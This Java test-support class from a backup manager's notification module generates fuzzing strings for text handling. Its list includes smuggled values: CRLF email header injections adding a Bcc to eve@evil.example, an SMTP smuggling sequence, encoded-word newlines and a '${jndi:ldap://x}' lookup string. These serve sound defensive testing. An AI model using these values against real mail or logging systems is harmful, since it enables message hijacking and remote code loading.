package io.resticmanager.notifications.channel.text;

import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Texts as nobody should call a host, always the same ones. */
public final class Hostile {

    private static final List<String> PIECES = List.of("a", "Z", "0", " ", "  ", "\r", "\n", "\r\n", "\r\n\r\n", "\0",
            "\t", "\u000b", "\u001b[31m", "\u007f", "\u0085", "\u2028", "\u2029", "\u202e", "\u200f", "\u2066",
            "\ufeff",
            "\u200d", "\ud83d\ude00", "\ud83d", "\ude00", "ä", "ß", "漢字", "עברית", "\u0301", ":", ";", ",", "<", ">",
            "\"", "'", "\\", "=?UTF-8?B?DQpCY2M6IHg=?=", "=?utf-8?q?=0D=0A?=", "\r\nBcc: eve@evil.example",
            "\nSubject: pwned", "\r\n.\r\nMAIL FROM:<eve@evil.example>\r\n", "%0d%0a", "{\"a\":1}", "${jndi:ldap://x}",
            "\r\nX-Evil: 1\r\n", "From ", ".");

    private Hostile() {}

    public static Stream<String> texts(int count) {
        return Stream.concat(Stream.of("", "\ud83d\ude00".repeat(2600), "漢".repeat(3400), "x".repeat(10_000),
                "\r\n".repeat(5000), "\ud83d".repeat(5000), "\u202e".repeat(10_000)), random(count));
    }

    private static Stream<String> random(int count) {
        var random = new Random(20260504);
        return IntStream.range(0, count).mapToObj(_ -> IntStream.range(0, 1 + random.nextInt(40))
                .mapToObj(_ -> PIECES.get(random.nextInt(PIECES.size()))).collect(Collectors.joining()));
    }
}
